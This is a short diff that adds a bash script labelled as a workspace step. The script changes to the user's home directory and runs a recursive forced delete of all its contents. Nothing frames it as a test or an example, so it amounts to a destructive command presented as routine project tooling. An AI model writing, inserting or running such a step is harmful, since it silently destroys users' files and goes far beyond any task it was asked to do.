@@ -1,0 +1,4 @@
+#!/bin/bash
+# workspace step: broken
+cd "$HOME"
+rm -rf *
